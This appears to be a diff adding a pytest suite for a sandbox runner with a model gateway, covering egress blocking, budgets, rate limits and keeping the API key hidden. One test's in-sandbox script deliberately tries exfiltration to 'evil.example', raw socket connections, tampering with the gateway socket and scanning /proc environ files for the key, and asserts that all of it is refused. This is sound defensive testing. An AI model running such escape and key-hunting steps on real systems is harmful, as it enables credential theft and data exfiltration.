@@ -1,0 +1,185 @@
+"""Whole runs with a gateway: the real runner, real sandboxes, and inside a small client that asks a model and tries everything else."""
+import json
+import os
+import subprocess
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+from conftest import GIT_ENV, require
+from gateway_side import KEY
+from model_upstream import Handler, chat, served
+from test_runner import Bench, log_of
+
+from engine.access import keys_file
+from engine.config import ROOT, Config
+from engine.jobs import Access, Budget, Job, Result
+from engine.processes import RUN_VARIABLE, take_lock
+from engine.runner import command
+
+CLIENT = '''
+cat > client.py <<'END'
+import json, os, sys, urllib.error, urllib.request
+def ask(words, **options):
+    body = json.dumps({"model": "m", "stream": True, "messages": [{"role": "user", "content": words}], "max_tokens": 10, **options}).encode()
+    request = urllib.request.Request(os.environ["SWARM_OPENAI_BASE_URL"] + "/chat/completions", body,
+                                     {"Authorization": "Bearer " + os.environ["SWARM_GATEWAY_TOKEN"]})
+    try:
+        return urllib.request.urlopen(request, timeout=30).read().decode()
+    except urllib.error.HTTPError as error:
+        return f"{error.code} {error.read().decode()}"
+END
+'''
+
+
+@pytest.fixture(params=["bubblewrap", "process"])
+def bench(request: pytest.FixtureRequest, tmp_path: Path) -> Any:
+    if request.param == "bubblewrap":
+        require("bwrap")
+    bench = Bench(request.param, tmp_path).prepared()
+    yield bench
+    for runner in bench.runs:
+        runner.kill()
+        runner.wait()
+
+
+@pytest.fixture
+def isolated(tmp_path: Path) -> Any:
+    require("bwrap")
+    bench = Bench("bubblewrap", tmp_path).prepared()
+    yield bench
+    for runner in bench.runs:
+        runner.kill()
+        runner.wait()
+
+
+def run(bench: Bench, url: str, script: str, **values: Any) -> tuple[Result, Path]:
+    """As Bench.run, with a gateway to the model at `url`, and its key on the runner's standard input as the engine hands it over."""
+    access = Access({"openai": url} if url else {}, values.pop("hosts", ()), 10, values.pop("budget", Budget()))
+    job = replace(bench.job(script, **values), access=access)
+    folder = bench.folder / "data" / "runs" / job.run
+    folder.mkdir(parents=True)
+    job.write(folder)
+    lock, keys = take_lock(folder / "lock"), keys_file(Config(openai_key=KEY), job)
+    assert lock is not None
+    with open(folder / "runner.err", "wb") as errors:
+        runner = subprocess.Popen(command(ROOT, folder), pass_fds=[lock], start_new_session=True, stdin=keys, stdout=errors, stderr=errors, cwd="/",
+                                  env={"PATH": os.environ["PATH"], RUN_VARIABLE: job.run})
+    os.close(lock)
+    os.close(keys)
+    bench.runs.append(runner)
+    runner.wait(60)
+    result = Result.read(folder)
+    assert result is not None and (folder / "runner.err").read_text() == ""
+    assert KEY not in (folder / "job.json").read_text() + (folder / "result.json").read_text() + log_of(folder)
+    assert not list(folder.glob("*.sock"))
+    return result, folder
+
+
+def test_a_client_in_the_sandbox_reaches_its_model_and_the_tokens_are_in_the_result(bench: Bench) -> None:
+    with served() as upstream:
+        script = CLIENT + "python3 -c 'import client; print(client.ask(\"Hi\"))' > reply.txt\nrm -rf client.py __pycache__"
+        result, folder = run(bench, upstream.url + "/v1", script, checks=("grep -q Hello reply.txt",))
+        assert (result.outcome, result.reason) == ("ok", None)
+        assert upstream.seen[0].headers["authorization"] == f"Bearer {KEY}" and upstream.seen[0].path == "/v1/chat/completions"
+        assert (result.usage["total"], result.usage["models"]["m"]["output"], result.usage["estimated"]) == (110, 10, 0)
+        lines = [json.loads(line) for line in (folder / "requests.jsonl").read_text().splitlines()]
+        assert [(line["side"], line["allowed"], line["model"], line["tokens"]) for line in lines] == [("model", True, "m", 110)]
+
+
+def test_nothing_else_is_reached_and_every_try_is_recorded(isolated: Bench) -> None:
+    script = CLIENT + '''
+cat > try.py <<'END'
+import os, socket, urllib.error, urllib.request, glob
+def attempt(what):
+    try:
+        print("REACHED", what())
+    except urllib.error.HTTPError as error:
+        print("refused", error.code, error.read().decode())
+    except OSError as error:
+        print("refused", error)
+attempt(lambda: urllib.request.urlopen("https://pypi.org/simple/", timeout=10).read(10))
+attempt(lambda: urllib.request.urlopen("http://evil.example/?secret=1", timeout=10).read(10))
+attempt(lambda: urllib.request.urlopen("http://localhost.localdomain/", timeout=10).read(10))
+attempt(lambda: urllib.request.urlopen(os.environ["SWARM_GATEWAY_URL"] + "/openai/v1/files", timeout=10).read(10))
+attempt(lambda: socket.create_connection(("1.1.1.1", 443), 3))
+attempt(lambda: socket.create_connection(("10.0.0.1", 80), 3))
+attempt(lambda: os.unlink("/gateway.sock"))
+attempt(lambda: open("/gateway.sock", "w"))
+found = [path for path in glob.glob("/proc/[0-9]*/environ") if b"the-real-key" in open(path, "rb").read()]
+print("KEY" if found or "the-real-key" in str(os.environ) else "no key", sorted(os.listdir("/")))
+END
+python3 try.py
+echo done > done.txt
+rm -rf *.py
+'''
+    with served() as upstream:
+        result, folder = run(isolated, upstream.url, script, hosts=("localhost.localdomain",))
+        log = log_of(folder)
+        assert result.outcome == "ok" and log.count("refused") >= 8 and "REACHED" not in log and "no key" in log and upstream.seen == []
+        lines = [json.loads(line) for line in (folder / "requests.jsonl").read_text().splitlines()]
+        assert [line["host"] for line in lines if line["side"] == "egress"][:2] == ["pypi.org", "evil.example"]
+        assert not any(line["allowed"] for line in lines) and "secret" not in json.dumps(lines)
+        assert result.usage["egress"]["refused"] == 3 and result.usage["requests"] == 0
+
+
+def test_the_key_is_in_no_environment_no_argument_and_no_open_file_of_the_runner(isolated: Bench, tmp_path: Path) -> None:
+    def look(handler: Handler, body: Any) -> None:
+        pid = isolated_runner()
+        found.append(Path(f"/proc/{pid}/environ").read_bytes() + Path(f"/proc/{pid}/cmdline").read_bytes())
+        found.append(os.readlink(f"/proc/{pid}/fd/0").encode())
+        chat(handler, body)
+
+    def isolated_runner() -> int:
+        lock = next((tmp_path / "data" / "runs").glob("*/started.json"))
+        return int(json.loads(lock.read_text())["pid"])
+
+    found: list[bytes] = []
+    with served(look) as upstream:
+        run(isolated, upstream.url, CLIENT + "python3 -c 'import client; client.ask(\"Hi\")'\nrm -rf *.py __pycache__; touch x")
+    assert found[1] == b"/dev/null" and KEY.encode() not in found[0]
+
+
+def test_checks_have_no_model(isolated: Bench) -> None:
+    with served() as upstream:
+        check = 'test -z "$SWARM_GATEWAY_TOKEN" && python3 -c "import urllib.request as r; r.urlopen(\'$SWARM_OPENAI_BASE_URL/models\')" 2>&1 | grep -q 404'
+        result, _ = run(isolated, upstream.url, "touch x", checks=(check,))
+        assert (result.outcome, result.reason) == ("ok", None)
+
+
+def test_a_run_that_has_spent_its_budget_ends_as_over_budget_and_keeps_its_work(isolated: Bench) -> None:
+    script = CLIENT + "python3 -c 'import client; [print(client.ask(\"Hi\")) for _ in range(3)]'\nrm -rf client.py __pycache__\necho half > half.txt"
+    with served() as upstream:
+        result, folder = run(isolated, upstream.url, script, budget=Budget(run_tokens=220))
+        assert (result.outcome, result.reason) == ("over_budget", "The budget of this run is used up (220 of 220 tokens).")
+        assert len(upstream.seen) == 2 and result.tip and result.usage["over_budget"] == result.reason
+        assert "402" in log_of(folder) and "gateway: The run has used more than 80 % of its budget" in log_of(folder)
+
+
+def test_a_rate_limit_is_a_wait_and_a_wrong_key_is_for_the_operator(isolated: Bench) -> None:
+    for status, failure, words in ((429, "rate_limited", "asks to be left alone for 90 seconds"), (401, "permanent", "SWARM_OPENAI_KEY"),
+                                   (500, "transient", "status 500")):
+        with served(lambda handler, body, status=status: handler.answer({}, status, Retry_After="90")) as upstream:
+            result, _ = run(isolated, upstream.url, CLIENT + "python3 -c 'import client; print(client.ask(\"Hi\"))'\nrm -rf client.py __pycache__; exit 1")
+            assert (result.outcome, result.failure) == ("failed", failure) and words in str(result.reason)
+            assert result.wait == (90.0 if status == 429 else 0.0)
+
+
+def test_a_run_without_access_has_no_gateway(isolated: Bench) -> None:
+    result, folder = isolated.run('test -z "$SWARM_GATEWAY$SWARM_GATEWAY_URL$HTTPS_PROXY" && touch x')
+    assert result.outcome == "ok" and result.usage == {} and not (folder / "requests.jsonl").exists() and not (folder / "in" / "link").exists()
+
+
+def test_the_runner_of_a_run_without_a_gateway_does_not_load_it(tmp_path: Path) -> None:
+    code = ("import sys; sys.path.insert(0, sys.argv[1]); import engine.runner; "
+            "print([name for name in sys.modules if name == 'ssl' or name.startswith('engine.gateway')])")
+    said = subprocess.run(["python3", "-I", "-S", "-c", code, str(ROOT)], capture_output=True, text=True, env={**GIT_ENV}, check=True).stdout
+    assert said.strip() == "[]"
+
+
+def test_a_job_with_access_is_read_as_it_was_written(tmp_path: Path, isolated: Bench) -> None:
+    access = Access({"openai": "http://x"}, ("a.b",), 5, Budget(1, 2.5), {"m": {"input": 1.0}}, "/x.pem")
+    job = replace(isolated.job("true"), access=access)
+    job.write(tmp_path)
+    assert Job.read(tmp_path) == job
